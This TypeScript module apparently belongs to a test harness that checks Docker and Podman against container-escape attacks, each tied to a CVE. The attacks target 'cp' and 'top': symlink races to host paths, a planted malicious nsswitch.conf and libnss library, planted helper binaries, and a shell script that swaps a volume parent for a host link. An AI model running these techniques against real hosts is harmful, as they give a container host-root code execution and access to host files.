/**
 * Attacks of a container on who copies files in and out of it, or looks at it.
 *
 * @module
 */

import { type Attack, sawSecret } from "./attack.ts";
import type { Engine, Live } from "./engines.ts";
import { type Evidence, exists, link, plant, read, runHost, type Scene } from "./scene.ts";

const HELPERS = ["tar", "gzip", "gunzip", "unpigz", "pigz", "xz", "zstd", "ps", "nsenter", "docker-tar"];
const SLEEP = ["/bin/busybox", "sleep", "20"];

/** Does something with a running container; what it answered. */
async function withLive(
  scene: Scene,
  engine: Engine,
  work: (live: Live) => Promise<Evidence | undefined>,
  args = SLEEP,
): Promise<Evidence> {
  await using live = await engine.live?.(scene, { args });
  const evidence = live && await work(live);
  if (live && await live.look("/pwned")) return { code: 0, output: "PWNED" };
  return evidence ?? { code: 1, output: "" };
}

/** A container whose command exchanges /data/at, a folder, and /data/link, a link to the host. */
const racer = (work: (scene: Scene, live: Live) => Promise<Evidence | undefined>) => async (s: Scene, e: Engine) => {
  await Deno.mkdir(`${s.rootfs}/data/at`, { recursive: true });
  await Deno.writeTextFile(`${s.rootfs}/data/at/secret`, "of the container\n");
  await link(s.host, `${s.rootfs}/data/link`);
  return await withLive(s, e, (live) => work(s, live), ["/attack", "swap", "/data/at", "/data/link", "60000"]);
};

async function mountsOf(path: string): Promise<boolean> {
  return (await Deno.readTextFile("/proc/self/mountinfo")).split("\n").some((line) => line.includes(` ${path}/`));
}

/** A container with a volume whose target the container's root leads to the host by now. */
const volumeBehindLink = async (scene: Scene, engine: Engine): Promise<Evidence> => {
  const { room, rootfs, host } = scene;
  await Deno.mkdir(`${room}/own`);
  await Deno.writeTextFile(`${room}/own/file`, "");
  await Deno.mkdir(`${rootfs}/data/deep/own`, { recursive: true });
  // The container turns the parent of its volume's target into a link, and somebody copies.
  const script = `mv /data /old; ln -s ${host} /data; sleep 20`;
  const volumes = [{ source: `${room}/own`, target: "/data/deep/own" }];
  await using live = await engine.live?.(scene, { args: ["/bin/busybox", "sh", "-c", script], volumes });
  if (!live) return { code: 1, output: "" };
  for (let i = 0; i < 50 && !await live.look("/old"); i++) await new Promise((end) => setTimeout(end, 50));
  if (engine.name === "naive") await link(host, `${rootfs}/data`);
  const copies = async (): Promise<(Evidence | undefined)[]> => [
    await live.copyIn?.(`${room}/own/file`, "/tmp/file"),
    await live.copyOut?.("/etc/passwd", `${room}/out`),
  ];
  const done = await copies();
  // One that has ended has no mounts any more: who copies makes them again.
  await live.stop?.();
  done.push(...await copies());
  const mounted = await mountsOf(host);
  return { code: 0, output: `tried ${mounted ? "MOUNTED" : ""} ${done.map((one) => one?.output).join()}` };
};

export const COPYING: readonly Attack[] = [
  {
    id: "CVE-2018-15664",
    engine: "docker",
    title: "cp while the container exchanges a folder and a link to the host: reads and writes there",
    needs: ["copy"],
    attempt: racer(async ({ room }, live) => {
      let last: Evidence | undefined, got = "";
      await Deno.writeTextFile(`${room}/planted`, "planted");
      for (let i = 0; i < 4; i++) {
        await live.copyOut?.("/data/at/secret", `${room}/out`);
        got += read(`${room}/out`);
        last = await live.copyIn?.(`${room}/planted`, "/data/at/planted");
      }
      return { code: last?.code ?? 1, output: `tried ${got}` };
    }),
    succeeded: (scene, evidence) => exists(`${scene.host}/planted`) || sawSecret(scene, evidence),
  },
  {
    id: "CVE-2019-10152",
    engine: "podman",
    title: "cp through a link of the container that leads to a path of the host",
    needs: ["copy"],
    async attempt(scene, engine) {
      const { room, rootfs, host } = scene;
      await link(host, `${rootfs}/data`);
      await Deno.writeTextFile(`${room}/planted`, "planted");
      return await withLive(scene, engine, async (live) => {
        await live.copyOut?.("/data/secret", `${room}/out`);
        const last = await live.copyIn?.(`${room}/planted`, "/data/planted");
        return { code: last?.code ?? 1, output: `tried ${read(`${room}/out`)}` };
      });
    },
    succeeded: (scene, evidence) => exists(`${scene.host}/planted`) || sawSecret(scene, evidence),
  },
  {
    id: "CVE-2019-14271",
    engine: "docker",
    title: "cp loads libraries (nsswitch.conf, libnss), or executes programs, of the image as root of the host",
    needs: ["copy"],
    async prepare(scene, { nss }) {
      await plant(scene, HELPERS);
      await Deno.writeTextFile(`${scene.rootfs}/etc/nsswitch.conf`, "passwd: evil\ngroup: evil\nhosts: evil\n");
      for (const folder of ["lib", "lib64", "lib/x86_64-linux-gnu", "lib/aarch64-linux-gnu", "usr/lib"]) {
        await runHost(["install", "-D", nss, `${scene.rootfs}/${folder}/libnss_evil.so.2`]);
      }
    },
    attempt: (scene, engine) =>
      withLive(scene, engine, async (live) => {
        await live.copyOut?.("/etc/passwd", `${scene.room}/out`);
        const { code } = await live.copyIn?.(`${scene.room}/out`, "/tmp/in") ?? { code: 1 };
        return { code, output: "tried" };
      }),
    succeeded: (_, { output }) => output.includes("PWNED"),
  },
  {
    id: "CVE-2026-41567",
    engine: "docker",
    title: "cp of a compressed archive executes the image's xz, gzip or unpigz",
    needs: ["copy"],
    prepare: (scene) => plant(scene, HELPERS),
    async attempt(scene, engine) {
      const { room } = scene;
      await runHost(["sh", "-c", `cd "$1" && tar -czf a.tar.gz host && tar -cJf a.tar.xz host`, "sh", room]);
      return await withLive(scene, engine, async (live) => {
        await live.copyIn?.(`${room}/a.tar.gz`, "/tmp", true);
        const last = await live.copyIn?.(`${room}/a.tar.xz`, "/tmp", true);
        return { code: last?.code ?? 1, output: "tried" };
      });
    },
    succeeded: (_, { output }) => output.includes("PWNED"),
  },
  {
    id: "CVE-2026-41568",
    engine: "docker",
    title: "cp makes the missing target of a volume behind a link: a file or folder on the host",
    needs: ["copy"],
    attempt: volumeBehindLink,
    succeeded: ({ host }) => exists(`${host}/deep`),
  },
  {
    id: "CVE-2026-42306",
    engine: "docker",
    title: "cp mounts a volume whose target leads to the host: over a path of the host",
    needs: ["copy"],
    attempt: volumeBehindLink,
    succeeded: (_, { output }) => output.includes("MOUNTED"),
  },
  {
    id: "CVE-2022-1227",
    engine: "podman",
    title: "top executes the image's nsenter or ps",
    needs: ["top"],
    prepare: (scene) => plant(scene, HELPERS),
    attempt: (scene, engine) =>
      withLive(scene, engine, async (live) => {
        const top = await live.top?.();
        return { code: top?.code ?? 1, output: `tried ${top?.output}` };
      }),
    succeeded: (_, { output }) => output.includes("PWNED"),
  },
];
